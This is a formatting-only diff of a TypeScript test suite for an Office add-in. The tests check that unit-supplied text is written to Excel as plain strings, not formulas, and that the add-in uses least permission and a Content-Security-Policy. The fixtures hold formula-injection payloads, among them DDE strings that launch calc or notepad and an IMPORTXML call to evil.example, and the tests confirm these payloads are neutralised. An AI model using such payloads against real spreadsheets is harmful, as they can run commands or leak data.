@@ -2,7 +2,15 @@
 // notes) reaches the summary as plain string cells, never formulas, and the JSON verbatim; the
 // source has no eval; the add-in asks for the least permission and its page carries a CSP.
 
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  statSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { strFromU8, unzipSync } from "fflate";
@@ -14,7 +22,13 @@ import { reportBytes, type Edit } from "../helpers/report-builder";
 const repo = join(__dirname, "..", "..");
 
 function capture(): Io & { stdout: string; stderr: string } {
-  const io = { stdout: "", stderr: "", isErrTty: false, out: (t: string) => void (io.stdout += t), err: (t: string) => void (io.stderr += t) };
+  const io = {
+    stdout: "",
+    stderr: "",
+    isErrTty: false,
+    out: (t: string) => void (io.stdout += t),
+    err: (t: string) => void (io.stderr += t),
+  };
   return io;
 }
 
@@ -23,7 +37,7 @@ const OWN_TASK = "+cmd|' /C calc'!A0";
 const OWN_LEAD = "-2+3+cmd|' /C notepad'!A0";
 const OWN_DEADLINE = "@SUM(1+1)*cmd|' /C calc'!A0";
 const RESULT = "=1+1";
-const NOTE = "@IMPORTXML(\"http://evil.example\")";
+const NOTE = '@IMPORTXML("http://evil.example")';
 const FILE = "=2+5.xlsx";
 
 describe("unit text is written as text, never as a formula", () => {
@@ -63,21 +77,27 @@ describe("unit text is written as text, never as a formula", () => {
     const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p));
     expect(sheets.length).toBeGreaterThan(3);
     for (const p of sheets) expect(strFromU8(parts[p]!)).not.toMatch(/<(\w+:)?f[\s>/]/);
-    expect(Object.keys(parts).some((p) => p.startsWith("xl/externalLinks/") || p.endsWith("vbaProject.bin"))).toBe(false);
+    expect(
+      Object.keys(parts).some((p) => p.startsWith("xl/externalLinks/") || p.endsWith("vbaProject.bin")),
+    ).toBe(false);
   });
 
   test("each unit-supplied text that reaches the summary is a string cell equal to the text", () => {
     const read = readXlsx(new Uint8Array(readFileSync(out)));
     if (!read.ok) throw new Error(read.reason);
-    const all = read.workbook.sheets.flatMap((s) => s.rows.flatMap((row) => (row ?? []).filter((c) => c !== undefined)));
+    const all = read.workbook.sheets.flatMap((s) =>
+      s.rows.flatMap((row) => (row ?? []).filter((c) => c !== undefined)),
+    );
     expect(all.some((c) => c?.formula === true)).toBe(false);
     const strings = new Set(all.flatMap((c) => (c?.value.kind === "string" ? [c.value.value] : [])));
     for (const text of [NAME, OWN_TASK, OWN_DEADLINE]) expect(strings).toContain(text);
     expect([...strings].some((s) => s.endsWith(FILE))).toBe(true);
     // And in the shared-string table exactly as typed (XML-escaped only).
     const sst = strFromU8(unzipSync(new Uint8Array(readFileSync(out)))["xl/sharedStrings.xml"]!);
-    const escaped = (s: string): string => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
-    for (const text of [NAME, OWN_TASK, OWN_DEADLINE]) expect(sst.replace(/&quot;/g, '"').replace(/&apos;/g, "'")).toContain(`>${escaped(text)}</t>`);
+    const escaped = (s: string): string =>
+      s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
+    for (const text of [NAME, OWN_TASK, OWN_DEADLINE])
+      expect(sst.replace(/&quot;/g, '"').replace(/&apos;/g, "'")).toContain(`>${escaped(text)}</t>`);
   });
 
   test("the JSON report holds the unit's text verbatim", () => {
@@ -104,10 +124,17 @@ describe("no code from data, least permission, a content security policy", () =>
 
   test("the manifest asks for ReadWriteDocument only", () => {
     const manifest = readFileSync(join(repo, "manifest.xml"), "utf8");
-    expect([...manifest.matchAll(/<Permissions>([^<]*)<\/Permissions>/g)].map((m) => m[1])).toEqual(["ReadWriteDocument"]);
+    expect([...manifest.matchAll(/<Permissions>([^<]*)<\/Permissions>/g)].map((m) => m[1])).toEqual([
+      "ReadWriteDocument",
+    ]);
   });
 
-  const CSP_DIRECTIVES = ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "object-src 'none'"];
+  const CSP_DIRECTIVES = [
+    "default-src 'self'",
+    "script-src 'self'",
+    "connect-src 'self'",
+    "object-src 'none'",
+  ];
 
   test("the taskpane page is built with a Content-Security-Policy meta (no eval, no foreign hosts)", () => {
     const config = readFileSync(join(repo, "webpack.config.js"), "utf8");
@@ -119,7 +146,8 @@ describe("no code from data, least permission, a content security policy", () =>
   test("the built taskpane.html carries the policy", () => {
     const html = join(repo, "dist", "taskpane.html");
     // npm test builds before the unit tests; run alone, this needs `npm run build` first.
-    if (!existsSync(html)) throw new Error("dist/taskpane.html is missing: run `npm run build` first (npm test does)");
+    if (!existsSync(html))
+      throw new Error("dist/taskpane.html is missing: run `npm run build` first (npm test does)");
     const page = readFileSync(html, "utf8");
     const meta = /<meta[^>]*http-equiv="?Content-Security-Policy"?[^>]*content="([^"]*)"/i.exec(page);
     expect(meta).not.toBeNull();
